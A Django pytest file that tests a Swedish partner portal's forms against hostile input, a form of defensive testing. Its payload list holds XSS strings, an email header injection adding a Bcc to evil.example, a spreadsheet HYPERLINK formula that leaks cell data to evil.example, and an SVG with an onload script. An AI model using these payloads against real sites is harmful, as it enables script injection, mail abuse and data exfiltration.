"""No request ends in a server error: junk in every Mina sidor form gets a message or is
stored as plain text, and nothing typed comes back as HTML."""

from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

import pytest

from partners.factories import ActivityFactory, make_orgnr
from partners.models import Activity, Invitation, Organisation

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(2)">',
    '<a href="javascript:alert(3)">klick</a>',
    "<svg onload=alert(4)>",
    "rad ett\r\nBcc: offer@evil.example",
    '=HYPERLINK("http://evil.example/?"&A1,"klick")',
    "x" * 10_000,
    "\x00\x1b[31m",
]

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10"/></svg>'


def raw_html_in(content):
    return [
        raw
        for raw in ("<script>alert(1)", "<img src=x", '<a href="javascript', "<svg onload")
        if raw in content
    ]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_junk_in_the_organisation_form(client, owner, org_a, leksand, payload):
    client.force_login(owner)
    url = reverse("partners:organisation_edit", args=[org_a.pk])
    data = {
        "name": payload,
        "org_number": payload,
        "legal_form": payload,
        "description": payload,
        "website": payload,
        "email": payload,
        "phone": payload,
        "street_address": payload,
        "postal_code": payload,
        "city": payload,
        "municipalities": [payload],
        "target_groups": [payload],
        "languages": [payload],
        "areas": payload,
    }
    response = client.post(url, data)
    assert response.status_code == 200
    assert not raw_html_in(response.content.decode())
    org_a.refresh_from_db()
    assert org_a.name == "Språkvännerna i Leksand"
    response = client.post(
        "/mina-sidor/foreningar/ny/",
        {
            "name": payload,
            "org_number": make_orgnr(4242),
            "legal_form": "ideell_forening",
            "description": payload,
            "municipalities": [leksand.pk],
            "phone": payload[:40],
            "city": payload[:100],
        },
    )
    assert response.status_code in (200, 302)
    for organisation in Organisation.objects.exclude(pk=org_a.pk):
        assert "\n" not in organisation.name and "\r" not in organisation.name
        assert "\x00" not in organisation.name + organisation.description
        page = client.get(reverse("partners:organisation_manage", args=[organisation.pk]))
        assert not raw_html_in(page.content.decode())


def test_an_svg_logo_is_refused_with_a_message(client, owner, org_a, leksand):
    client.force_login(owner)
    response = client.post(
        reverse("partners:organisation_edit", args=[org_a.pk]),
        {
            "name": org_a.name,
            "org_number": org_a.org_number,
            "legal_form": "ideell_forening",
            "municipalities": [leksand.pk],
            "logo": SimpleUploadedFile("logo.svg", SVG, content_type="image/svg+xml"),
        },
    )
    assert response.status_code == 200
    assert "inte en bild" in response.content.decode()
    org_a.refresh_from_db()
    assert not org_a.logo


@pytest.mark.parametrize("payload", PAYLOADS)
def test_junk_in_activity_and_invitation_forms(client, owner, org_a, activity_a, payload):
    client.force_login(owner)
    data = {
        "title": payload,
        "kind": payload,
        "description": payload,
        "weekdays": [payload],
        "start_time": payload,
        "end_time": payload,
        "start_date": payload,
        "end_date": payload,
        "schedule_note": payload,
        "address": payload,
        "municipality": payload,
        "target_groups": [payload],
        "languages": [payload],
        "cost": payload,
        "contact": payload,
        "publish": "1",
    }
    for url in (
        reverse("partners:activity_create", args=[org_a.pk]),
        reverse("partners:activity_edit", args=[org_a.pk, activity_a.pk]),
    ):
        response = client.post(url, data)
        assert response.status_code == 200, url
        assert not raw_html_in(response.content.decode())
    assert Activity.objects.count() == 1
    for name, args, post in (
        ("activity_status", [org_a.pk, activity_a.pk], {"status": payload}),
        ("activity_review_request", [org_a.pk, activity_a.pk], {"x": payload}),
        ("organisation_review_request", [org_a.pk], {"x": payload}),
        ("invite", [org_a.pk], {"email": payload, "role": payload}),
    ):
        response = client.post(reverse(f"partners:{name}", args=args), post)
        assert response.status_code in (200, 302), name
    assert not Invitation.objects.exists()
    assert mail.outbox == []
    for token in (payload, "1:abc:def", "%00"):
        response = client.get(f"/mina-sidor/inbjudan/{token}/".replace("\r\n", ""))
        assert response.status_code in (404, 410), token


def test_missing_objects_are_404_not_500(client, owner, org_a):
    client.force_login(owner)
    for name, args in (
        ("activity_review_request", [org_a.pk, 999999]),
        ("activity_status", [org_a.pk, 999999]),
        ("organisation_review_request", [999999]),
    ):
        assert client.post(reverse(f"partners:{name}", args=args)).status_code == 404


def test_review_request_on_an_activity_being_taken_down_and_edited(client, owner, org_a, leksand):
    activity = ActivityFactory(
        organisation=org_a, status=Activity.Status.DRAFT, moderation_reason="<b>fel</b>"
    )
    client.force_login(owner)
    page = client.get(reverse("partners:organisation_manage", args=[org_a.pk])).content.decode()
    assert "&lt;b&gt;fel&lt;/b&gt;" in page
    assert "<b>fel</b>" not in page
    page = client.get(reverse("partners:activity_edit", args=[org_a.pk, activity.pk]))
    assert "<b>fel</b>" not in page.content.decode()
